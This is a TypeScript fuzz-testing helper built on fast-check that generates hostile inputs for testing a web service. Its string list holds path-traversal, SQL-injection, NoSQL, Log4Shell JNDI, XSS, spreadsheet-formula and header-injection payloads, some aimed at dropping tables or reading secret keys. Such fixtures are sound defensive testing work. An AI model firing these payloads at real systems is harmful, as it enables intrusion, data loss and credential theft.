import fc from "fast-check";

/** Strings that have broken web services before: traversal, injection, encodings, parser confusion. */
export const HOSTILE_STRINGS: readonly string[] = [
  "",
  " ",
  "../",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "%2e%2e%2f%2e%2e%2f",
  "..\\..\\windows\\win.ini",
  "/",
  "//",
  "./.",
  "' OR 1=1 --",
  '"; DROP TABLE incidents; --',
  "'; DELETE FROM tokens; --",
  "1) OR (1=1",
  "' UNION SELECT secret_sealed FROM access_keys --",
  "1; SELECT pg_sleep(5)",
  "$where",
  '{"$gt":""}',
  "%",
  "%%",
  "%00",
  "%ZZ",
  "%C0%AF",
  "%ED%A0%80",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff",
  "x\udc00y",
  "\u202e\u202dRTL override",
  "مرحبا بالعالم",
  "\u200b\u200c\u200d\u2060",
  "\ufeff",
  "\ufffe\uffff",
  "😀",
  "👨‍👩‍👧‍👦",
  "𝕏𝕐ℤ",
  "e\u0301\u0301\u0301\u0301",
  "\r\n",
  "x\r\nX-Injected: 1",
  "\t\v\f",
  "null",
  "undefined",
  "true",
  "NaN",
  "Infinity",
  "-1",
  "0",
  "-0",
  "1e309",
  "9007199254740993",
  "99999999999999999999999999",
  "0x10",
  "[]",
  "{}",
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  "${jndi:ldap://x/a}",
  "<script>alert(1)</script>",
  "=cmd|' /C calc'!A0",
  "IM20240318132203" + "0000000000",
  "level_10",
  "INCIDENT_STATUS_TRIGGERED",
  "a,b,,c",
  "*",
  "?",
  "#",
  "&",
  "=",
  "+",
];

const LONG_LENGTHS = [256, 1_001, 2_049, 8_193] as const;

/** Long strings just past the usual limits (255, 1000, 2048 …) and well past them. */
export const longString = fc
  .tuple(fc.constantFrom(...LONG_LENGTHS), fc.constantFrom("a", "é", "😀", "'", "%", "\u0000", "/"))
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

/** Any code points, lone surrogates included. */
const anyUnicode = fc.string({ unit: "binary", maxLength: 40 });

/** A hostile string: a known-bad one, random unicode, a long one, or a known-bad one inside random text. */
export function hostileString(realIds: readonly string[] = []): fc.Arbitrary<string> {
  const known = fc.constantFrom(...HOSTILE_STRINGS);
  const arbs: Array<fc.WeightedArbitrary<string>> = [
    { arbitrary: known, weight: 5 },
    { arbitrary: anyUnicode, weight: 3 },
    { arbitrary: longString, weight: 1 },
    {
      arbitrary: fc.tuple(anyUnicode, known, anyUnicode).map(([a, b, c]) => a + b + c),
      weight: 2,
    },
    // NUL is legal in JSON and in SQLite text but refused by PostgreSQL: worth its own weight.
    { arbitrary: anyUnicode.map((s) => `${s}\u0000${s}`), weight: 1 },
  ];
  if (realIds.length > 0) arbs.push({ arbitrary: fc.constantFrom(...realIds), weight: 4 });
  return fc.oneof(...arbs);
}

/**
 * Percent-encodes a string for a URL the way a careless client might. Lone surrogates, which
 * `encodeURIComponent` refuses, become their (invalid) CESU-8 bytes, so the server sees invalid UTF-8.
 */
export function percentEncode(text: string): string {
  let out = "";
  for (let i = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    const isHigh = code >= 0xd800 && code <= 0xdbff;
    const next = text.charCodeAt(i + 1);
    if (isHigh && next >= 0xdc00 && next <= 0xdfff) {
      out += encodeURIComponent(text.slice(i, i + 2));
      i++;
    } else if (code >= 0xd800 && code <= 0xdfff) {
      out +=
        `%${(0xe0 | (code >> 12)).toString(16)}%${(0x80 | ((code >> 6) & 0x3f)).toString(16)}%${(0x80 | (code & 0x3f)).toString(16)}`.toUpperCase();
    } else {
      out += encodeURIComponent(text[i] as string);
    }
  }
  return out;
}

/** How a string goes into a URL: properly encoded, raw (what a sloppy client sends), or half-encoded. */
export type UrlEncoding = "encoded" | "raw" | "mixed";

export function inUrl(text: string, encoding: UrlEncoding): string {
  if (encoding === "encoded") return percentEncode(text);
  // Raw text cannot carry `?` or `#` without changing the URL's structure, nor whitespace on the request line.
  const raw = text.replace(/[?#\s]/g, (c) => percentEncode(c));
  if (encoding === "raw") return raw;
  return raw.replace(/\//g, "%2F");
}
